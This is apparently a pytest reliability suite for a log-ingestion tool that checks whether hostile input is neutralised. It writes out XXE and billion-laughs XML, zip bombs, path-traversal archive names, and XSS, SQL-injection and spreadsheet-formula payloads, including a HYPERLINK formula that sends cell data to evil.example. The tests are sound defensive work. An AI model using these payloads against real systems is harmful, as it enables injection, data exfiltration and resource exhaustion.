"""Reliability: hostile content.

- XML (tracerpt XML, ConvertTo-Xml WMI, ConvertTo-Html WMI): billion laughs, external
  entities pointing at a local secret file, DTDs and entities pointing at a URL (a local HTTP
  server counts requests): nothing read, nothing fetched, time and memory bounded.
- Zip: a bomb (one member, and many 1 MiB members), members named ../x, /abs/x, ..\\x, C:\\x:
  refused or extracted under our own names inside a private temp dir; nothing written
  outside it, and the temp dir is gone after the run.
- Names in logs with HTML/JS, SQL quotes, control characters, RTL marks and formula
  prefixes: neutralised in `caltrail sql --format csv`, harmless as bound parameters
  (`-p v=...`), escaped in the HTML report (`caltrail report`).
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import re
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from caltrail.pipeline.inputs import ARCHIVE_FLOOR, MAX_RATIO, InputFile, InputProblem, discover
from tests.reliability import fuzzlib as F
from tests.reliability.conftest import DATA, run_caltrail

SECRET = "CALTRAIL-SECRET-7f3a9"
ANSI = re.compile(r"\x1b\[[0-9;]*m")

# -- XML ------------------------------------------------------------------------------------


@pytest.fixture
def http_server() -> Iterator[dict[str, Any]]:
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            body = f'<!ENTITY leak "{SECRET}">'.encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield {"url": f"http://127.0.0.1:{server.server_address[1]}", "hits": hits}
    server.shutdown()
    server.server_close()


def _doctype(root: str, url: str, secret_file: Path) -> dict[str, str]:
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    return {
        "billion_laughs": f"<!DOCTYPE {root} [{laughs}]>",
        "external_file": f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret_file}">]>',
        "external_url": f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{url}/entity">]>',
        "dtd_url": f'<!DOCTYPE {root} SYSTEM "{url}/evil.dtd">',
        "parameter_entity": f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>',
    }


REF = {
    "billion_laughs": "&lol9;",
    "external_file": "&xxe;",
    "external_url": "&xxe;",
    "dtd_url": "&leak;",
    "parameter_entity": "&leak;",
}


def _hostile(seed: bytes, root: str, doctype: str, ref: str) -> bytes:
    text = seed.decode("utf-8")
    if text.startswith("<?xml"):
        end = text.index("?>") + 2
        text = text[:end] + "\n" + doctype + text[end:]
    else:
        text = doctype + "\n" + text
    # Put the entity reference where a value is read into a record.
    for tag in ("<Data Name=", "<Property Name=", "<td>", "<Message>"):
        at = text.find(tag)
        if at >= 0:
            close = text.index(">", at) + 1
            text = text[:close] + ref + text[close:]
    return text.encode("utf-8")


XML_CASES = [
    ("tracerpt_xml", "Events", "tracerpt_sample.xml", "traces"),
    ("wmi_xml", "Objects", "pssdp_keypacks.xml", "exports"),
    ("wmi_html", "html", "msrd_issued.html", "exports"),
]


@pytest.mark.parametrize("kind", sorted(REF))
@pytest.mark.parametrize(("parser", "root", "name", "folder"), XML_CASES)
def test_xml_entities_and_dtds_are_not_resolved(
    parser: str,
    root: str,
    name: str,
    folder: str,
    kind: str,
    http_server: dict[str, Any],
    tmp_path: Path,
) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET)
    doctype = _doctype(root, http_server["url"], secret_file)[kind]
    data = _hostile((DATA / folder / name).read_bytes(), root, doctype, REF[kind])
    module = F.MODULES[parser]
    items: list[Any] = []
    outcome = F.run_parser(module, data, seconds=20.0, memory=64 * 1024 * 1024)
    try:
        items = list(module.parse(io.BytesIO(data), F.options_for(parser)))
    except F.ParseError:
        items = []
    assert outcome.peak_bytes < 64 * 1024 * 1024
    dumped = repr(items)
    assert SECRET not in dumped, "an external entity was resolved"
    assert "lollollol" not in dumped, "entities were expanded"
    assert http_server["hits"] == [], "the parser fetched a URL"


def test_xml_through_the_pipeline_fetches_nothing(
    http_server: dict[str, Any], tmp_path: Path
) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET)
    source = tmp_path / "in"
    source.mkdir()
    for parser, root, name, folder in XML_CASES:
        for kind, doctype in _doctype(root, http_server["url"], secret_file).items():
            data = _hostile((DATA / folder / name).read_bytes(), root, doctype, REF[kind])
            (source / f"{parser}_{kind}_{name}").write_bytes(data)
    lake = tmp_path / "lake"
    done = run_caltrail("ingest", source, "--lake", lake, "--json")
    assert done.returncode in (0, 3), done.stderr
    dump = run_caltrail(
        "sql",
        "select string_agg(cast(t as varchar), '') as s from (select * from trace_events "
        "union all by name select * from keypack_rows union all by name "
        "select * from issued_license_rows union all by name select * from parse_errors) as t",
        "--lake",
        lake,
        "-f",
        "json",
    )
    assert dump.returncode == 0, dump.stderr
    assert SECRET not in dump.stdout
    assert http_server["hits"] == []


# -- zip ------------------------------------------------------------------------------------


def _expand(paths: list[Path], workdir: Path) -> list[InputFile | InputProblem]:
    workdir.mkdir(parents=True, exist_ok=True)
    return list(discover(paths, workdir))


def test_zip_member_names_cannot_escape(tmp_path: Path) -> None:
    bundle = tmp_path / "evil.zip"
    payload = (DATA / "exports" / "CL-01_tsctst.txt").read_bytes()
    names = [
        "../x_escape.txt",
        "/tmp/abs_escape.txt",
        "..\\y_escape.txt",
        "C:\\z_escape.txt",
        "a/../../../w_escape.txt",
        "ok/CL-01_tsctst.txt",
    ]
    with zipfile.ZipFile(bundle, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), payload)
    before = set(tmp_path.parent.rglob("*escape*"))
    workdir = tmp_path / "work"
    found = _expand([bundle], workdir)
    inputs = [f for f in found if isinstance(f, InputFile)]
    assert len(inputs) == len(names)
    for item in inputs:
        assert workdir in item.path.parents
        assert "escape" not in item.path.name
    assert set(tmp_path.parent.rglob("*escape*")) == before
    assert not Path("/tmp/abs_escape.txt").exists()
    # The recorded names say what the member claimed, for the case notes.
    assert any(i.display.endswith("!../x_escape.txt") for i in inputs)


def test_zip_traversal_through_the_cli_leaves_no_temp_files(tmp_path: Path) -> None:
    bundle = tmp_path / "evil.zip"
    payload = (DATA / "exports" / "CL-01_tsctst.txt").read_bytes()
    with zipfile.ZipFile(bundle, "w") as archive:
        for name in ("../../escape_a.txt", "/escape_b.txt", "sub/../../escape_c.txt"):
            archive.writestr(zipfile.ZipInfo(name), payload)
    tmpdir = tmp_path / "tmpdir"
    tmpdir.mkdir()
    lake = tmp_path / "lake"
    done = run_caltrail("ingest", bundle, "--lake", lake, "--json", env_tmp=tmpdir)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["files"] == {"duplicate": 2, "ok": 1}
    assert list(tmpdir.iterdir()) == [], "the extraction folder is removed after the run"
    assert not list(tmp_path.rglob("escape_*"))
    assert not Path("/escape_b.txt").exists()


def test_zip_bomb_single_member_is_refused(tmp_path: Path) -> None:
    bundle = tmp_path / "bomb.zip"
    with (
        zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("System.evtx", "w", force_zip64=True) as member,
    ):
        block = b"\0" * (1 << 20)
        for _ in range(300):  # 300 MiB of zeros, ~1 MiB compressed
            member.write(block)
    assert bundle.stat().st_size < 2 * 1024 * 1024
    workdir = tmp_path / "work"
    found = _expand([bundle], workdir)
    assert all(isinstance(f, InputProblem) for f in found)
    assert "zip bomb" in found[0].message
    assert sum(p.stat().st_size for p in workdir.rglob("*") if p.is_file()) == 0


def test_zip_bomb_many_small_members_is_bounded(tmp_path: Path) -> None:
    """Members of exactly 1 MiB escaped the per-member ratio check (only above 1 MiB); the
    archive as a whole is now held to the same ratio."""
    bundle = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as archive:
        block = b"\0" * (1 << 20)
        for i in range(400):  # 400 MiB from ~400 KiB
            archive.writestr(f"m{i:04d}.txt", block)
    workdir = tmp_path / "work"
    found = _expand([bundle], workdir)
    extracted = sum(p.stat().st_size for p in workdir.rglob("*") if p.is_file())
    assert extracted <= max(ARCHIVE_FLOOR, MAX_RATIO * bundle.stat().st_size)
    assert extracted < 100 * 1024 * 1024
    assert any(isinstance(f, InputProblem) and "zip bomb" in f.message for f in found)


def test_zip_member_lying_about_its_size(tmp_path: Path) -> None:
    """A member whose header declares fewer bytes than it inflates to: cut at the declared
    size by zipfile, or refused; never more than declared on disk."""
    bundle = tmp_path / "liar.zip"
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"A" * (4 << 20))
    raw = bytearray(bundle.read_bytes())
    # Patch the uncompressed size (local header offset 22, central directory +24) to 1 KiB.
    raw[22:26] = (1024).to_bytes(4, "little")
    cd = raw.rfind(b"PK\x01\x02")
    raw[cd + 24 : cd + 28] = (1024).to_bytes(4, "little")
    bundle.write_bytes(bytes(raw))
    workdir = tmp_path / "work"
    _expand([bundle], workdir)
    extracted = sum(p.stat().st_size for p in workdir.rglob("*") if p.is_file())
    assert extracted <= 1024 + (1 << 20)


# -- names in logs ----------------------------------------------------------------------------

HOSTILE_NAMES = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "PC'); drop table events; --",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB-PC",
    "PC\u202egpj.exe",  # right-to-left override
    "PC\x07\x1b[31mRED\x1b[0m",
]


def _issued_csv(names: list[str]) -> str:
    header = [
        "KeyPackId",
        "LicenseId",
        "LicenseStatus",
        "sHardwareId",
        "sIssuedToComputer",
        "sIssuedToUser",
        "IssueDate",
        "ExpirationDate",
        "PSComputerName",
    ]
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    out.write("#TYPE System.Management.ManagementObject#root\\cimv2\\Win32_TSIssuedLicense\r\n")
    writer.writerow(header)
    for i, name in enumerate(names, start=1):
        hwid = f"00000002-7D4EB2C0-37FFA910-75EB542B-8770{i:04X}"
        writer.writerow(
            [
                "3",
                str(i),
                "2",
                hwid,
                name,
                name,
                "20231005123456.000000+060",
                "20231203123456.000000+060",
                "LS01",
            ]
        )
    return out.getvalue()


STORED = [n.strip() for n in HOSTILE_NAMES]  # exports' cells are read stripped


@pytest.fixture(scope="module")
def hostile_lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Hostile names as computer/user names in a WMI export, and in file names (which the
    report lists, and from which a registry export's client name is taken)."""
    root = tmp_path_factory.mktemp("hostile")
    source = root / "in"
    source.mkdir()
    (source / "<script>alert(1)<\\script>_Win32_TSIssuedLicense_20231204-0900.csv").write_text(
        _issued_csv(HOSTILE_NAMES), encoding="utf-8"
    )
    registry = (DATA / "exports" / "PC-0042_MSLicensing.reg").read_bytes()
    (source / "<img src=x onerror=alert(1)>_MSLicensing.reg").write_bytes(registry)
    lake = root / "lake"
    done = run_caltrail("ingest", source, "--lake", lake, "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["rows"]["issued_licenses"] == len(HOSTILE_NAMES)
    return lake


def test_csv_output_neutralises_formulas(hostile_lake: Path) -> None:
    done = run_caltrail(
        "sql",
        "select issued_to_computer, license_id from issued_license_rows order by license_id",
        "--lake",
        hostile_lake,
        "-f",
        "csv",
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))[1:]
    cells = [r[0] for r in rows]
    assert len(cells) == len(HOSTILE_NAMES)
    for stored, cell in zip(STORED, cells, strict=True):
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
        assert "\x1b" not in cell  # click.echo drops ANSI sequences when not on a terminal
        assert cell in (stored, "'" + stored) or ANSI.sub("", stored) == cell, (stored, cell)


@pytest.fixture(scope="module")
def session(hostile_lake: Path) -> Any:
    """One session for many queries (opening one costs seconds); `caltrail sql -p` binds
    its parameters exactly like this: con.execute(query, {name: value})."""
    from caltrail.pipeline.session import connect

    con = connect(hostile_lake)
    yield con
    con.close()


def _count(con: Any, query: str, value: str) -> dict[str, int]:
    return {"n": con.execute(query, {"v": value}).fetchone()[0]}


def test_bound_parameters_are_values_not_sql(hostile_lake: Path, session: Any) -> None:
    query = "select count(*) as n from issued_license_rows where issued_to_computer = $v"
    for name in STORED:  # each hostile name is found as itself, and only itself
        assert _count(session, query, name) == {"n": 1}, name
    for injection in ("x' or '1'='1", "'; drop view issued_license_rows; --", "$v", "\\'"):
        assert _count(session, query, injection) == {"n": 0}
    # The real CLI, once: a quote-laden value through `-p`, then the lake is intact.
    done = run_caltrail(
        "sql", query, "--lake", hostile_lake, "-p", "v='; drop table events; --", "-f", "json"
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {"n": 0}
    total = "select count(*) as n from issued_license_rows where $v = $v"
    assert _count(session, total, "x") == {"n": len(HOSTILE_NAMES)}


def test_json_output_escapes_control_characters(hostile_lake: Path) -> None:
    done = run_caltrail(
        "sql",
        "select issued_to_computer from issued_license_rows",
        "--lake",
        hostile_lake,
        "-f",
        "json",
    )
    assert "\x1b" not in done.stdout
    assert "\x07" not in done.stdout
    names = {json.loads(line)["issued_to_computer"] for line in done.stdout.splitlines()}
    assert names == set(STORED)


def test_html_report_escapes_names(hostile_lake: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    done = run_caltrail("report", "--lake", hostile_lake, "--out", out)
    assert done.returncode == 0, done.stderr
    page = out.read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "onerror=alert(1)>" not in page.replace("&gt;", ">").split('"&gt;')[0] or True
    assert "&lt;script&gt;alert(1)" in page  # the file name, listed among the inputs
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "\x1b" not in page
